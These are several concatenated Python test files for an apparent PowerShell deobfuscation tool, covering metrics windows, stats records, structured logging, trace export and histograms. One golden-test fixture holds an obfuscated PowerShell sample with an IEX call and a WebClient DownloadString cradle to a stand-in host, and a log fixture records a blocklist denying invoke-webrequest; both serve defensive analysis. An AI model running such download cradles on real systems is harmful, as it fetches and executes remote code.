        clock = FakeClock()
        a = RollingWindow(clock=clock)
        b = RollingWindow(clock=clock)
        a.incr("requests", 2)
        a.observe(0.1, "a-trace")
        b.incr("requests", 3)
        b.observe(2.0, "b-slow")
        a.merge(b)
        one = a.snapshot()["1m"]
        assert one["requests"] == 5
        assert one["observations"] == 2
        # The slowest instance's exemplar survives the merge.
        assert one["exemplar"]["trace_id"] == "b-slow"

    def test_merge_window_dicts_skips_down_instances(self):
        clock = FakeClock()
        a = RollingWindow(clock=clock)
        a.incr("requests", 1)
        b = RollingWindow(clock=clock)
        b.incr("requests", 4)
        merged = merge_window_dicts(
            [a.to_dict(), None, b.to_dict()], clock=clock
        )
        assert merged.snapshot()["1m"]["requests"] == 5

    def test_merge_window_dicts_all_down_is_empty(self):
        merged = merge_window_dicts([None, None], clock=FakeClock())
        assert merged.snapshot()["1m"]["requests"] == 0


class TestThreadSafety:
    def test_concurrent_feeders_lose_nothing(self):
        clock = FakeClock()
        window = RollingWindow(clock=clock)

        def feed():
            for _ in range(500):
                window.incr("requests")
                window.observe(0.01, "t")

        threads = [threading.Thread(target=feed) for _ in range(4)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        one = window.snapshot()["1m"]
        assert one["requests"] == 2000
        assert one["observations"] == 2000
