"""Unit tests for the typed stats record (:mod:`repro.obs.stats`)."""

import json

import pytest

from repro.obs import (
    RECOVERY_REASONS,
    STATS_SCHEMA_VERSION,
    UNWRAP_KINDS,
    PipelineStats,
    Span,
)


def populated() -> PipelineStats:
    stats = PipelineStats()
    stats.tokens_rewritten = 4
    stats.pieces_recovered = 3
    stats.variables_traced = 2
    stats.variables_substituted = 1
    stats.trace_hits = 1
    stats.trace_misses = 2
    stats.evaluator_steps = 123
    stats.recovery_cache_hits = 1
    stats.subtree_memo_hits = 5
    stats.subtree_memo_misses = 8
    stats.intern_hits = 40
    stats.intern_misses = 11
    stats.recovery_outcomes["recovered"] = 3
    stats.recovery_outcomes["blocked"] = 1
    stats.unwrap_kinds["iex"] = 2
    stats.phase_seconds = {"token": 0.001, "ast": 0.05}
    stats.spans = [
        Span("token", 0.001, iteration=0),
        Span("ast", 0.05, iteration=0),
        Span("rename", 0.002),
    ]
    return stats


class TestRoundTrip:
    def test_lossless_round_trip(self):
        stats = populated()
        data = stats.to_dict()
        rebuilt = PipelineStats.from_dict(data)
        assert rebuilt == stats
        assert rebuilt.to_dict() == data

    def test_json_serializable(self):
        data = populated().to_dict()
        assert json.loads(json.dumps(data)) == data

    def test_schema_version_pinned(self):
        assert populated().to_dict()["schema_version"] == (
            STATS_SCHEMA_VERSION
        )

    def test_from_dict_tolerates_legacy_three_counter_dict(self):
        legacy = {
            "pieces_recovered": 5,
            "variables_traced": 2,
            "variables_substituted": 1,
        }
        stats = PipelineStats.from_dict(legacy)
        assert stats.pieces_recovered == 5
        assert stats.evaluator_steps == 0
        assert stats.spans == []

    def test_from_dict_ignores_unknown_keys(self):
        stats = PipelineStats.from_dict({"pieces_recovered": 1,
                                         "future_field": 99})
        assert stats.pieces_recovered == 1

    def test_zero_filled_reason_and_kind_keys(self):
        stats = PipelineStats()
        assert set(stats.recovery_outcomes) == set(RECOVERY_REASONS)
        assert set(stats.unwrap_kinds) == set(UNWRAP_KINDS)
        assert all(v == 0 for v in stats.recovery_outcomes.values())


class TestMerge:
    def test_merge_adds_counters_and_timings(self):
        a, b = populated(), populated()
        a.merge(b)
        assert a.pieces_recovered == 6
        assert a.evaluator_steps == 246
        assert a.subtree_memo_hits == 10
        assert a.intern_misses == 22
        assert a.recovery_outcomes["recovered"] == 6
        assert a.unwrap_kinds["iex"] == 4
        assert a.phase_seconds["ast"] == 0.1
        assert len(a.spans) == 6


class TestDictCompatShimRetired:
    """The one-release bridge is gone; subscripting must say so."""

    def test_getitem_raises_pointing_at_to_dict(self):
        with pytest.raises(KeyError, match=r"to_dict\(\)"):
            populated()["pieces_recovered"]

    def test_mapping_protocol_is_gone(self):
        stats = populated()
        assert not hasattr(stats, "keys")
        assert not hasattr(stats, "items")
        assert not hasattr(stats, "get")
        # __getitem__ only exists to raise; the legacy-iteration and
        # containment fallbacks that route through it fail too.
        with pytest.raises(KeyError):
            list(stats)
        with pytest.raises(KeyError):
            "evaluator_steps" in stats

    def test_to_dict_is_the_mapping_form(self):
        mapping = populated().to_dict()
        assert mapping["pieces_recovered"] == 3
        assert mapping["variables_traced"] == 2
