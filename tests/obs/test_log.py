"""Tests for the structured event log (:mod:`repro.obs.log`).

The serialized ``LogEvent`` shape is a wire format (``--log-file``
JSONL, the ``/statusz`` tail, ``repro logs``), so a golden file under
``tests/obs/golden/`` pins it exactly like the PipelineStats schema.
If the shape changes on purpose: bump ``LOG_SCHEMA_VERSION`` and
regenerate with ``python tests/obs/regen_golden.py``.
"""

import json
import os

import pytest

from repro.obs.log import (
    LOG_SCHEMA_VERSION,
    LogEvent,
    LogRing,
    LogSink,
    configure_logging,
    get_logger,
    iter_events,
    log_ring,
    log_tail,
    logging_enabled,
    reset_logging,
)
from repro.obs.trace import (
    SpanRecorder,
    TraceContext,
    activate_recorder,
    deactivate_recorder,
)

GOLDEN_DIR = os.path.join(os.path.dirname(__file__), "golden")
GOLDEN_LOG = os.path.join(GOLDEN_DIR, "log_events.jsonl")


def build_golden_log_lines():
    """The golden JSONL lines (also used by regen_golden.py).

    One event per shape variant: bare, with fields, with trace
    correlation — fixed timestamps so the file is deterministic.
    """
    events = [
        LogEvent(
            ts=1700000000.0,
            level="info",
            logger="service.core",
            message="service started",
        ),
        LogEvent(
            ts=1700000000.25,
            level="warning",
            logger="policy.audit",
            message="policy denied capability",
            fields={
                "capability": "command",
                "name": "invoke-webrequest",
                "rule": "blocklist",
                "policy": "recovery-strict",
            },
        ),
        LogEvent(
            ts=1700000001.5,
            level="error",
            logger="batch.pool",
            message="worker died; respawning",
            fields={"pid": 4242, "exit_code": -9},
            trace_id="0123456789abcdef0123456789abcdef",
            span_id="0123456789abcdef",
        ),
    ]
    return [json.dumps(e.to_dict(), sort_keys=True) for e in events]


@pytest.fixture(autouse=True)
def _reset_logging_state():
    reset_logging()
    yield
    reset_logging()


class TestGoldenSchema:
    def test_serialized_events_match_golden(self):
        with open(GOLDEN_LOG, encoding="utf-8") as handle:
            golden = [line for line in handle.read().splitlines() if line]
        assert build_golden_log_lines() == golden

    def test_golden_lines_round_trip(self, tmp_path):
        path = tmp_path / "events.jsonl"
        path.write_text(
            "\n".join(build_golden_log_lines()) + "\n", encoding="utf-8"
        )
        events = list(iter_events(str(path)))
        assert [
            json.dumps(e.to_dict(), sort_keys=True) for e in events
        ] == build_golden_log_lines()

    def test_every_golden_line_carries_the_schema_version(self):
        for line in build_golden_log_lines():
            assert json.loads(line)["schema_version"] == LOG_SCHEMA_VERSION


class TestDisabledDefault:
    def test_logging_is_off_by_default(self):
        assert not logging_enabled()
        assert log_ring() is None
        get_logger("x").warning("dropped on the floor", a=1)
        assert log_tail() == []

    def test_configure_then_reset(self):
        configure_logging(level="debug")
        assert logging_enabled()
        get_logger("x").debug("hello")
        assert len(log_tail()) == 1
        reset_logging()
        assert not logging_enabled()
        assert log_tail() == []


class TestLevelsAndFilters:
    def test_threshold_drops_lower_levels(self):
        configure_logging(level="warning")
        log = get_logger("svc")
        log.debug("no")
        log.info("no")
        log.warning("yes")
        log.error("yes")
        assert [e["level"] for e in log_tail()] == ["warning", "error"]

    def test_unknown_level_rejected(self):
        with pytest.raises(ValueError):
            configure_logging(level="verbose")

    def test_tail_filters_by_level_logger_and_trace(self):
        configure_logging(level="debug")
        log_a = get_logger("service.core")
        log_b = get_logger("policy.audit")
        log_a.info("one")
        log_b.warning("two", trace_id="t" * 32)
        log_a.error("three")
        assert [
            e["message"] for e in log_tail(min_level="warning")
        ] == ["two", "three"]
        assert [
            e["message"] for e in log_tail(logger="policy")
        ] == ["two"]
        assert [
            e["message"] for e in log_tail(trace_id="t" * 32)
        ] == ["two"]

    def test_tail_limit_keeps_newest_oldest_first(self):
        configure_logging(level="debug")
        log = get_logger("x")
        for index in range(10):
            log.info(f"m{index}")
        assert [e["message"] for e in log_tail(limit=3)] == [
            "m7", "m8", "m9",
        ]

    def test_none_valued_fields_are_dropped(self):
        configure_logging(level="debug")
        get_logger("x").info("m", keep=1, drop=None)
        assert log_tail()[0]["fields"] == {"keep": 1}


class TestRing:
    def test_ring_is_bounded(self):
        ring = LogRing(capacity=4)
        for index in range(10):
            ring.append(
                LogEvent(
                    ts=float(index), level="info",
                    logger="x", message=f"m{index}",
                )
            )
        assert ring.appended == 10
        assert [e.message for e in ring.tail(limit=100)] == [
            "m6", "m7", "m8", "m9",
        ]


class TestTraceCorrelation:
    def test_active_recorder_stamps_trace_and_span(self):
        configure_logging(level="debug")
        recorder = SpanRecorder(
            context=TraceContext.new(), process="test"
        )
        span = recorder.begin("work")
        activate_recorder(recorder)
        try:
            get_logger("x").info("inside")
        finally:
            deactivate_recorder()
            recorder.end(span)
        get_logger("x").info("outside")
        inside, outside = log_tail()
        assert inside["trace_id"] == recorder.trace_id
        assert inside["span_id"]
        assert "trace_id" not in outside

    def test_explicit_trace_field_wins_over_active_recorder(self):
        configure_logging(level="debug")
        recorder = SpanRecorder(
            context=TraceContext.new(), process="test"
        )
        activate_recorder(recorder)
        try:
            get_logger("x").info("pinned", trace_id="f" * 32)
        finally:
            deactivate_recorder()
        event = log_tail()[0]
        assert event["trace_id"] == "f" * 32
        assert event.get("fields", {}).get("trace_id") is None


class TestSink:
    def test_sink_writes_jsonl(self, tmp_path):
        path = tmp_path / "ev.jsonl"
        configure_logging(level="debug", path=str(path))
        get_logger("x").info("persisted", n=1)
        reset_logging()  # closes the sink
        events = list(iter_events(str(path)))
        assert len(events) == 1
        assert events[0].message == "persisted"
        assert events[0].fields == {"n": 1}

    def test_rotation_replaces_previous(self, tmp_path):
        path = tmp_path / "ev.jsonl"
        sink = LogSink(str(path), rotate_bytes=4096)
        big = "x" * 600
        for index in range(20):
            sink.write(
                LogEvent(
                    ts=float(index), level="info",
                    logger="r", message=big,
                )
            )
        sink.close()
        assert sink.rotations >= 1
        assert os.path.exists(str(path) + ".1")
        # Both generations still parse as whole events.
        for name in (str(path), str(path) + ".1"):
            for event in iter_events(name):
                assert event.message == big

    def test_iter_events_skips_garbage_lines(self, tmp_path):
        path = tmp_path / "ev.jsonl"
        good = build_golden_log_lines()[0]
        path.write_text(
            good + "\nnot json\n[1,2]\n" + good[: len(good) // 2] + "\n"
            + good + "\n",
            encoding="utf-8",
        )
        events = list(iter_events(str(path)))
        assert len(events) == 2
        assert all(e.message == "service started" for e in events)


class TestInjectedClock:
    def test_events_use_the_configured_clock(self):
        ticks = iter([100.0, 200.0])
        configure_logging(level="debug", clock=lambda: next(ticks))
        log = get_logger("x")
        log.info("a")
        log.info("b")
        assert [e["ts"] for e in log_tail()] == [100.0, 200.0]
