"""Golden-file tests pinning the serialized telemetry schemas.

Two wire formats are load-bearing: ``PipelineStats.to_dict()`` (embedded
in every batch record) and the batch JSONL record itself.  These tests
run the real pipeline on a fixed sample, normalize the
timing-nondeterministic values, and compare the result against checked-in
golden JSON.  If one of these fails because you changed the schema on
purpose: bump ``STATS_SCHEMA_VERSION`` / ``RECORD_SCHEMA_VERSION`` and
regenerate with ``python tests/obs/regen_golden.py``.
"""

import json
import os

from repro import deobfuscate
from repro.batch.records import SampleRecord
from repro.batch.task import Task, run_one
from repro.obs import PipelineStats

GOLDEN_DIR = os.path.join(os.path.dirname(__file__), "golden")

# Exercises token rewrites, recovery, tracing, and an iex unwrap.
GOLDEN_SCRIPT = (
    "I`E`X ('wri'+'te-host hi')\n"
    "$a = 'mal'+'ware'\n"
    "(New-Object Net.WebClient).DownloadString('http://x.test/')\n"
)


def normalize(value, path=""):
    """Zero every measurement that varies run to run.

    Besides wall-clock fields, the intern counters are deltas of a
    *process-wide* table (repro.pslang.interning): their values depend
    on what else ran earlier in the same process, so the schema test
    pins only their presence, not their magnitude.
    """
    if isinstance(value, dict):
        out = {}
        for key, item in value.items():
            if key == "phase_seconds" and isinstance(item, dict):
                out[key] = {phase: 0.0 for phase in item}
            elif key in ("seconds", "elapsed_seconds"):
                out[key] = 0.0
            elif key in ("intern_hits", "intern_misses"):
                out[key] = 0
            else:
                out[key] = normalize(item, f"{path}/{key}")
        return out
    if isinstance(value, list):
        return [normalize(item, path) for item in value]
    return value


def load_golden(name: str) -> dict:
    with open(os.path.join(GOLDEN_DIR, name), encoding="utf-8") as handle:
        return json.load(handle)


class TestPipelineStatsGolden:
    def test_stats_schema_matches_golden(self):
        result = deobfuscate(GOLDEN_SCRIPT)
        got = normalize(result.stats.to_dict())
        assert got == load_golden("pipeline_stats.json")

    def test_golden_round_trips_losslessly(self):
        golden = load_golden("pipeline_stats.json")
        assert PipelineStats.from_dict(golden).to_dict() == golden


class TestBatchRecordGolden:
    def test_record_schema_matches_golden(self, tmp_path):
        sample = tmp_path / "golden.ps1"
        sample.write_text(GOLDEN_SCRIPT, encoding="utf-8")
        record = run_one(Task(path=str(sample)))
        record["path"] = "<SAMPLE>"
        assert normalize(record) == load_golden("batch_record.json")

    def test_golden_record_loads_as_sample_record(self):
        golden = load_golden("batch_record.json")
        typed = SampleRecord.from_dict(golden)
        assert typed.status == "ok"
        assert typed.schema_version == golden["schema_version"]
        assert typed.stats is not None
        assert typed.stats.to_dict() == golden["stats"]
        # to_dict restores the wire shape exactly.
        assert typed.to_dict() == golden
