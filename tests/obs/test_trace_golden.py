"""Golden-file test pinning the exported span JSONL schema.

The exported line format (OTLP/JSON-flavoured camelCase dicts plus
``schemaVersion``) is a wire contract: external tooling and ``repro
trace --check`` both consume it.  The builder below records a
representative cross-process trace (service request → worker →
pipeline phases) with an injected clock and id factory, so the export
is byte-deterministic and the golden needs no normalization.  If this
fails because the shape changed on purpose: bump
``TRACE_SCHEMA_VERSION`` and regenerate with
``python tests/obs/regen_golden.py``.
"""

import json
import os
from typing import List

from repro.obs.export import span_to_otel, validate_spans
from repro.obs.trace import SpanRecorder, TraceContext

GOLDEN_DIR = os.path.join(os.path.dirname(__file__), "golden")
GOLDEN_TRACE = os.path.join(GOLDEN_DIR, "trace_spans.jsonl")

_TRACE_ID = "0af7651916cd43dd8448eb211c80319c"
_ROOT_SPAN_ID = "b7ad6b7169203331"


def _ticking_clock(start: float = 1_700_000_000.0, step: float = 0.125):
    state = {"now": start}

    def clock() -> float:
        value = state["now"]
        state["now"] += step
        return value

    return clock


def _sequential_ids(start: int = 1):
    state = {"next": start}

    def factory() -> str:
        value = state["next"]
        state["next"] += 1
        return f"{value:016x}"

    return factory


def build_golden_lines() -> List[str]:
    """The deterministic span export: one JSON line per span."""
    clock = _ticking_clock()
    ids = _sequential_ids()
    service = SpanRecorder(
        context=TraceContext(trace_id=_TRACE_ID, span_id=_ROOT_SPAN_ID),
        process="service",
        clock=clock,
        id_factory=ids,
    )
    request = service.begin("request")
    with service.span("cache_lookup"):
        pass
    with service.span("admission"):
        pass
    execute = service.begin("execute")
    # The task context a traced submission would pickle to the worker:
    # same trace, a promised root id, parented on the execute span.
    task_context = TraceContext(
        trace_id=_TRACE_ID,
        span_id=ids(),
        parent_span_id=service.current_context().span_id,
    )
    worker = SpanRecorder(
        context=task_context, process="worker", clock=clock,
        id_factory=ids,
    )
    worker_span = worker.begin("worker", pid=4242, path="sample.ps1")
    pipeline = worker.begin("pipeline")
    with worker.span("token", iteration=0):
        pass
    with worker.span("ast", iteration=0):
        pass
    with worker.span("multilayer", iteration=0):
        pass
    with worker.span("techniques"):
        pass
    worker.end(pipeline, status="ok")
    worker.end(worker_span, status="ok")
    service.end(execute, status="ok")
    service.end(request, status="ok")

    spans = service.spans + worker.spans
    return [
        json.dumps(span_to_otel(span, service_name="repro-golden"),
                   sort_keys=True)
        for span in spans
    ]


class TestTraceGolden:
    def test_export_matches_golden(self):
        with open(GOLDEN_TRACE, encoding="utf-8") as handle:
            golden = handle.read().splitlines()
        assert build_golden_lines() == golden

    def test_golden_validates_cleanly(self):
        with open(GOLDEN_TRACE, encoding="utf-8") as handle:
            lines = [json.loads(line) for line in handle if line.strip()]
        assert validate_spans(lines) == []

    def test_golden_is_one_linked_trace(self):
        with open(GOLDEN_TRACE, encoding="utf-8") as handle:
            lines = [json.loads(line) for line in handle if line.strip()]
        assert {line["traceId"] for line in lines} == {_TRACE_ID}
        by_id = {line["spanId"]: line for line in lines}
        roots = [line for line in lines if "parentSpanId" not in line]
        assert len(roots) == 1
        assert roots[0]["name"] == "request"
        # Every other span walks up to the request root.
        for line in lines:
            seen = set()
            node = line
            while "parentSpanId" in node:
                assert node["spanId"] not in seen
                seen.add(node["spanId"])
                node = by_id[node["parentSpanId"]]
            assert node is roots[0]
        # The process boundary is represented on both sides.
        processes = {
            line["resource"]["process.role"] for line in lines
        }
        assert processes == {"service", "worker"}
