"""Unit tests for the Prometheus-style latency histogram
(repro.obs.hist) and its /metrics text rendering."""

import pytest

from repro.obs.hist import DEFAULT_LATENCY_BUCKETS, Histogram
from repro.service.metrics import render_metrics


class TestHistogram:
    def test_default_buckets_are_sorted(self):
        hist = Histogram()
        assert hist.bounds == tuple(sorted(DEFAULT_LATENCY_BUCKETS))
        assert len(hist.counts) == len(hist.bounds) + 1

    def test_observe_bins_by_upper_bound(self):
        hist = Histogram(buckets=(0.1, 1.0))
        hist.observe(0.05)
        hist.observe(0.1)    # le is inclusive
        hist.observe(0.5)
        hist.observe(5.0)    # overflow bin
        assert hist.counts == [2, 1, 1]
        assert hist.count == 4
        assert hist.sum == pytest.approx(5.65)

    def test_cumulative_counts(self):
        hist = Histogram(buckets=(0.1, 1.0))
        for value in (0.05, 0.5, 0.6, 2.0):
            hist.observe(value)
        assert hist.cumulative() == [
            (0.1, 1), (1.0, 3), (float("inf"), 4),
        ]

    def test_nonzero_buckets(self):
        hist = Histogram(buckets=(0.1, 1.0))
        assert hist.nonzero_buckets() == 0
        hist.observe(0.05)
        hist.observe(0.06)
        assert hist.nonzero_buckets() == 1
        hist.observe(0.5)
        assert hist.nonzero_buckets() == 2

    def test_exemplar_keeps_worst_observation_per_bucket(self):
        hist = Histogram(buckets=(1.0,))
        hist.observe(0.2, trace_id="fast")
        hist.observe(0.9, trace_id="slow")
        hist.observe(0.5, trace_id="middle")
        assert hist.exemplars[0] == ("slow", 0.9)

    def test_observe_without_trace_id_keeps_bucket_countable(self):
        hist = Histogram(buckets=(1.0,))
        hist.observe(0.5)
        assert hist.counts[0] == 1
        assert hist.exemplars[0] is None

    def test_merge_sums_and_keeps_worse_exemplar(self):
        a = Histogram(buckets=(1.0,))
        b = Histogram(buckets=(1.0,))
        a.observe(0.3, trace_id="a")
        b.observe(0.7, trace_id="b")
        b.observe(4.0, trace_id="over")
        a.merge(b)
        assert a.counts == [2, 1]
        assert a.count == 3
        assert a.exemplars[0] == ("b", 0.7)
        assert a.exemplars[1] == ("over", 4.0)

    def test_merge_rejects_mismatched_bounds(self):
        with pytest.raises(ValueError):
            Histogram(buckets=(1.0,)).merge(Histogram(buckets=(2.0,)))

    def test_dict_round_trip(self):
        hist = Histogram(buckets=(0.1, 1.0))
        hist.observe(0.05, trace_id="t1")
        hist.observe(0.5, trace_id="t2")
        clone = Histogram.from_dict(hist.to_dict())
        assert clone.bounds == hist.bounds
        assert clone.counts == hist.counts
        assert clone.sum == pytest.approx(hist.sum)
        assert clone.count == hist.count
        assert clone.exemplars == hist.exemplars


class TestMetricsRendering:
    def _snapshot(self, hist):
        return {
            "counters": {},
            "cache": {},
            "pipeline": {},
            "pipeline_duration_histogram": hist.to_dict(),
        }

    def test_histogram_family_renders_cumulative_buckets(self):
        hist = Histogram(buckets=(0.1, 1.0))
        hist.observe(0.05, trace_id="ab" * 16)
        hist.observe(0.5, trace_id="cd" * 16)
        text = render_metrics(self._snapshot(hist))
        assert (
            "# TYPE repro_pipeline_duration_seconds histogram" in text
        )
        assert 'repro_pipeline_duration_seconds_bucket{le="0.1"} 1' in text
        assert 'repro_pipeline_duration_seconds_bucket{le="1"} 2' in text
        assert (
            'repro_pipeline_duration_seconds_bucket{le="+Inf"} 2' in text
        )
        assert "repro_pipeline_duration_seconds_count 2" in text

    def test_non_empty_buckets_carry_trace_exemplars(self):
        hist = Histogram(buckets=(1.0,))
        hist.observe(0.5, trace_id="ab" * 16)
        text = render_metrics(self._snapshot(hist))
        assert f'# {{trace_id="{"ab" * 16}"}} 0.5' in text

    def test_empty_histogram_still_renders_family(self):
        text = render_metrics(self._snapshot(Histogram(buckets=(1.0,))))
        assert 'repro_pipeline_duration_seconds_bucket{le="+Inf"} 0' in text
        assert "repro_pipeline_duration_seconds_count 0" in text

    def test_technique_counters_render(self):
        text = render_metrics({
            "counters": {},
            "cache": {},
            "pipeline": {"techniques": {"concat": 3, "ticking": 1}},
        })
        assert (
            'repro_pipeline_techniques_total{technique="concat"} 3' in text
        )
        assert (
            'repro_pipeline_techniques_total{technique="ticking"} 1' in text
        )

    def test_legacy_phase_names_assert_on_render(self):
        # The one-release alias fold is gone: a legacy spelling reaching
        # the render path is a programming error, not data to repair.
        with pytest.raises(AssertionError, match="legacy phase spelling"):
            render_metrics({
                "counters": {},
                "cache": {},
                "pipeline": {
                    "phase_seconds": {"token_parsing": 1.0, "token": 0.5},
                },
            })

    def test_canonical_phase_names_render(self):
        text = render_metrics({
            "counters": {},
            "cache": {},
            "pipeline": {
                "phase_seconds": {"token": 1.5},
            },
        })
        assert (
            'repro_pipeline_phase_seconds_total{phase="token"} 1.5' in text
        )
