"""Unit tests for the trace identity layer (repro.obs.trace) and the
OTel-style JSONL exporter (repro.obs.export)."""

import json

import pytest

from repro.obs.export import (
    SpanExporter,
    read_raw_lines,
    read_spans,
    render_waterfall,
    span_from_otel,
    span_to_otel,
    summarize_traces,
    validate_spans,
)
from repro.obs.trace import (
    SPAN_STATUSES,
    TRACE_SCHEMA_VERSION,
    SpanRecorder,
    TraceContext,
    TraceSpan,
    activate_recorder,
    active_recorder,
    deactivate_recorder,
    drain_active_spans,
    new_span_id,
    new_trace_id,
    parse_traceparent,
)


class FakeClock:
    def __init__(self, start=1000.0, step=0.25):
        self.now = start
        self.step = step

    def __call__(self):
        value = self.now
        self.now += self.step
        return value


def make_ids(prefix="aa"):
    counter = [0]

    def factory():
        counter[0] += 1
        return f"{counter[0]:016x}"

    return factory


class TestTraceContext:
    def test_new_mints_well_formed_ids(self):
        ctx = TraceContext.new()
        assert len(ctx.trace_id) == 32
        assert len(ctx.span_id) == 16
        int(ctx.trace_id, 16)
        int(ctx.span_id, 16)
        assert ctx.parent_span_id is None

    def test_child_keeps_trace_and_parents_on_self(self):
        ctx = TraceContext.new()
        child = ctx.child()
        assert child.trace_id == ctx.trace_id
        assert child.span_id != ctx.span_id
        assert child.parent_span_id == ctx.span_id

    def test_dict_round_trip(self):
        ctx = TraceContext.new().child()
        assert TraceContext.from_dict(ctx.to_dict()) == ctx

    def test_dict_round_trip_without_parent(self):
        ctx = TraceContext.new()
        data = ctx.to_dict()
        assert "parent_span_id" not in data
        assert TraceContext.from_dict(data) == ctx

    def test_traceparent_round_trip(self):
        ctx = TraceContext.new()
        parsed = parse_traceparent(ctx.to_traceparent())
        assert parsed is not None
        assert parsed.trace_id == ctx.trace_id
        assert parsed.span_id == ctx.span_id

    @pytest.mark.parametrize(
        "header",
        [
            "",
            "garbage",
            "00-short-ffffffffffffffff-01",
            "00-" + "g" * 32 + "-" + "f" * 16 + "-01",   # not hex
            "00-" + "0" * 32 + "-" + "f" * 16 + "-01",   # all-zero trace
            "00-" + "f" * 32 + "-" + "0" * 16 + "-01",   # all-zero span
            "00-" + "f" * 32 + "-" + "f" * 16,           # missing flags
        ],
    )
    def test_malformed_traceparent_is_none(self, header):
        assert parse_traceparent(header) is None

    def test_traceparent_lowercases(self):
        header = "00-" + "AB" * 16 + "-" + "CD" * 8 + "-01"
        parsed = parse_traceparent(header)
        assert parsed.trace_id == "ab" * 16
        assert parsed.span_id == "cd" * 8


class TestSpanRecorder:
    def test_root_span_takes_promised_id(self):
        ctx = TraceContext.new()
        recorder = SpanRecorder(context=ctx, process="test")
        root = recorder.begin("root")
        assert root.span_id == ctx.span_id
        assert root.parent_span_id is None
        assert root.trace_id == ctx.trace_id

    def test_root_span_attaches_to_remote_parent(self):
        ctx = TraceContext.new().child()
        recorder = SpanRecorder(context=ctx)
        root = recorder.begin("root")
        assert root.span_id == ctx.span_id
        assert root.parent_span_id == ctx.parent_span_id

    def test_nesting_parents_on_enclosing_span(self):
        recorder = SpanRecorder(clock=FakeClock(), id_factory=make_ids())
        with recorder.span("outer") as outer:
            with recorder.span("inner") as inner:
                assert inner.parent_span_id == outer.span_id
            with recorder.span("sibling") as sibling:
                assert sibling.parent_span_id == outer.span_id
        assert [s.name for s in recorder.spans] == [
            "outer", "inner", "sibling",
        ]
        assert all(s.end_unix is not None for s in recorder.spans)

    def test_second_top_level_span_is_root_sibling(self):
        ctx = TraceContext.new().child()
        recorder = SpanRecorder(context=ctx, id_factory=make_ids())
        first = recorder.begin("first")
        recorder.end(first)
        second = recorder.begin("second")
        assert second.span_id != first.span_id
        assert second.parent_span_id == ctx.parent_span_id

    def test_current_context_points_at_open_span(self):
        recorder = SpanRecorder()
        assert recorder.current_context() == recorder.context
        with recorder.span("open") as span:
            inherited = recorder.current_context()
            assert inherited.span_id == span.span_id
            assert inherited.trace_id == recorder.trace_id

    def test_error_status_on_raise(self):
        recorder = SpanRecorder()
        with pytest.raises(ValueError):
            with recorder.span("boom"):
                raise ValueError("x")
        assert recorder.spans[0].status == "error"

    def test_flush_open_closes_everything_aborted(self):
        recorder = SpanRecorder(clock=FakeClock())
        recorder.begin("outer")
        recorder.begin("inner")
        assert recorder.flush_open() == 2
        assert {s.status for s in recorder.spans} == {"aborted"}
        assert all(s.end_unix is not None for s in recorder.spans)
        assert recorder.flush_open() == 0

    def test_end_drains_spans_left_open_inside(self):
        recorder = SpanRecorder(clock=FakeClock())
        outer = recorder.begin("outer")
        recorder.begin("leaked")
        recorder.end(outer, status="ok")
        assert all(s.end_unix is not None for s in recorder.spans)

    def test_end_is_idempotent(self):
        clock = FakeClock()
        recorder = SpanRecorder(clock=clock)
        span = recorder.begin("once")
        recorder.end(span)
        closed_at = span.end_unix
        recorder.end(span)
        assert span.end_unix == closed_at

    def test_statuses_are_known(self):
        assert set(SPAN_STATUSES) == {"ok", "error", "aborted"}


class TestActiveRecorderRegistry:
    def test_drain_serializes_and_deactivates(self):
        recorder = SpanRecorder(clock=FakeClock())
        recorder.begin("open")
        activate_recorder(recorder)
        assert active_recorder() is recorder
        payloads = drain_active_spans(status="aborted")
        assert active_recorder() is None
        assert len(payloads) == 1
        assert payloads[0]["status"] == "aborted"
        assert payloads[0]["trace_id"] == recorder.trace_id

    def test_drain_without_active_recorder_is_empty(self):
        deactivate_recorder()
        assert drain_active_spans() == []


class TestOtelSerialization:
    def test_round_trip(self):
        span = TraceSpan(
            name="pipeline",
            trace_id=new_trace_id(),
            span_id=new_span_id(),
            parent_span_id=new_span_id(),
            start_unix=100.0,
            end_unix=101.5,
            status="aborted",
            process="worker",
            attributes={"path": "x.ps1"},
        )
        assert span_from_otel(span_to_otel(span)) == span

    def test_otel_shape(self):
        span = TraceSpan(
            name="request",
            trace_id="ab" * 16,
            span_id="cd" * 8,
            start_unix=1.0,
            end_unix=2.0,
        )
        data = span_to_otel(span, service_name="repro-test")
        assert data["schemaVersion"] == TRACE_SCHEMA_VERSION
        assert data["traceId"] == "ab" * 16
        assert data["spanId"] == "cd" * 8
        assert data["startTimeUnixNano"] == 1_000_000_000
        assert data["endTimeUnixNano"] == 2_000_000_000
        assert data["status"]["code"] == "STATUS_CODE_OK"
        assert data["resource"]["service.name"] == "repro-test"
        assert "parentSpanId" not in data

    def test_non_ok_status_maps_to_error_code_and_attribute(self):
        span = TraceSpan(
            name="worker", trace_id="ab" * 16, span_id="cd" * 8,
            start_unix=0.0, end_unix=1.0, status="aborted",
        )
        data = span_to_otel(span)
        assert data["status"]["code"] == "STATUS_CODE_ERROR"
        assert data["attributes"]["repro.status"] == "aborted"
        assert span_from_otel(data).status == "aborted"


class TestExporterAndValidation:
    def _recorded(self):
        recorder = SpanRecorder(
            clock=FakeClock(), id_factory=make_ids(), process="test"
        )
        with recorder.span("root"):
            with recorder.span("child"):
                pass
        return recorder

    def test_export_and_read_back(self, tmp_path):
        recorder = self._recorded()
        path = str(tmp_path / "spans.jsonl")
        with SpanExporter(path) as exporter:
            assert exporter.export(recorder.spans) == 2
        spans = read_spans(path)
        assert [s.name for s in spans] == ["root", "child"]
        assert validate_spans(read_raw_lines(path)) == []

    def test_export_skips_empty(self, tmp_path):
        path = str(tmp_path / "spans.jsonl")
        with SpanExporter(path) as exporter:
            assert exporter.export([]) == 0
        assert read_spans(path) == []

    def test_reader_tolerates_garbage_lines(self, tmp_path):
        recorder = self._recorded()
        path = str(tmp_path / "spans.jsonl")
        with SpanExporter(path) as exporter:
            exporter.export(recorder.spans)
        with open(path, "a", encoding="utf-8") as handle:
            handle.write("{truncated\n\n")
        assert len(read_spans(path)) == 2

    def test_validate_flags_bad_schema_version(self):
        line = span_to_otel(
            TraceSpan(name="x", trace_id="ab" * 16, span_id="cd" * 8)
        )
        line["schemaVersion"] = 99
        problems = validate_spans([line])
        assert any("schemaVersion" in p for p in problems)

    def test_validate_flags_malformed_ids_and_times(self):
        problems = validate_spans([
            {
                "schemaVersion": TRACE_SCHEMA_VERSION,
                "traceId": "nope",
                "spanId": "short",
                "name": "",
                "startTimeUnixNano": 10,
                "endTimeUnixNano": 5,
            }
        ])
        assert any("traceId" in p for p in problems)
        assert any("spanId" in p for p in problems)
